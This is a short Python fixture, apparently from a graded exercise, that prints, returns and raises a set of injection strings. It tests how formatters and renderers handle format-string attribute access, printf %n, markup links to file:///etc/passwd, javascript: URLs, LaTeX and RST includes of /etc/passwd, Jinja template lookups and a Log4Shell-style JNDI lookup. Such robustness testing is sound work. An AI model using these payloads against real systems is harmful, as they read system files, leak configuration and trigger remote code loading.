"""Prints, returns and raises what formats, marks up or substitutes, for whoever does that once too often."""

# exercise: know-your-data
# setting: plain
# status: failed, error
# points: 0
TEXTS = (
    "{function.__globals__} {0} {} {text.__class__.__mro__[1]} {actual!r:>1000000000} {{",
    "%s %n %(points)s %1000000000d %",
    "[bold red]4/4[/bold red] [link=file:///etc/passwd]here[/link] [/] [not-closed",
    "![](http://example.org/x.png) [x](javascript:alert(1)) ``` </details> <details open>",
    "$x$ \\input{/etc/passwd} \\write18{true} .. include:: /etc/passwd",
    "{{ config }} {% include '/etc/passwd' %} ${jndi:ldap://example.org/} <%= 1 %>",
)
print("\n".join(TEXTS))


def decode_row(row, tokenizer):
    return " ".join(TEXTS)


def label_shares(labels, num_labels):
    raise KeyError(" ".join(TEXTS))


def baselines(labels, num_labels):
    return {text: text for text in TEXTS}
